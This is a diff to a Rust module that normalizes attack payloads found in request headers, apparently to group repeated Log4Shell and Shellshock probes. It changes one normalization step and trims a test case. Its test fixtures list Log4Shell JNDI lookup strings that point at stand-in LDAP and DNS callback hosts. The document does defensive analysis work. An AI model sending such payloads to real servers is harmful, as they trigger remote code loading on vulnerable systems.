@@ -6,6 +6,7 @@ use std::net::Ipv4Addr;
 use serde_json::Value;
 
 use super::mask::{GUID, bounded, is_guid, same_command};
+use super::temporary;
 use crate::path;
 
 /// What was sent in a request for whoever reads it to run: `${jndi:…}`, `() { :; };`. Else a header says who asks, and not what for; bodies
@@ -52,7 +53,7 @@ fn payload(text: &str) -> Option<Cow<'_, str>> {
 fn same_payload(payload: &str) -> String {
     let is_part = |c: char| c.is_alphanumeric() || matches!(c, '.' | ':' | '-' | '_');
     bounded(payload, |payload| {
-        let lower = payload.to_lowercase();
+        let lower = temporary::without_names(&payload.to_lowercase());
         let places = lower.split(|c| !is_part(c)).filter_map(same_place);
         let places = places.collect::<Vec<_>>().join(" ");
         format!("{} {places}", same_command(payload))
@@ -108,10 +109,6 @@ mod tests {
                 "${jndi:ldap://203.0.113.9:1389/a17e00b2}",
             ),
             ("${jndi:ldap://c2-01.example/4711}", "${jndi:ldap://c2-01.example/17}"),
-            (
-                "${jndi:ldap://4711.oast.example/a}",
-                "${jndi:ldap://4712.oast.example/a}",
-            ),
             (
                 "${jndi:dns://5770385f-c22a-43e0-bf4c-06f5698ffbd9/a}",
                 "${jndi:dns://11111111-aaaa-43e0-bf4c-06f5698ffbd9/a}",
